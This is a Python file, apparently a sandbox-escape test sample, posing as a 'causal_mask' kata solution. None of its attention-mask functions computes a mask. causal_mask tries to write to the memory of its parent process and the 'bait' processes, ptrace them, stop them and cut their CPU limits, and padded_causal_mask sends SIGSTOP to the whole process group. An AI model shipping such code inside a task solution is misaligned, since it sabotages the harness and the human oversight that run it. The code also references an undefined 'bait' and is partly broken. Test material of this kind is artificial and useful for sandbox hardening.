"""Writes to the memory of its parents, traces them, stops them and changes their limits."""
# kata: causal_mask
# share: 0
# levels: landlock bubblewrap

import ctypes
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attack(pid):
    for attempt in (
        lambda: open(f"/proc/{pid}/mem", "r+b").write(b"x"),
        lambda: libc.ptrace(16, pid, 0, 0),
        lambda: libc.syscall(311, pid, 0, 0, 0, 0, 0),
        lambda: os.kill(pid, signal.SIGSTOP),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.pidfd_open(pid),
    ):
        try:
            attempt()
        except (OSError, AttributeError, ValueError):
            continue


def causal_mask(n_queries, n_keys=None):
    for pid in {os.getppid(), *bait["processes"]} - {0}:
        attack(pid)


def padded_causal_mask(n_queries, key_is_real):
    os.killpg(0, signal.SIGSTOP)


def additive_mask(mask, dtype="float32"):
    return None
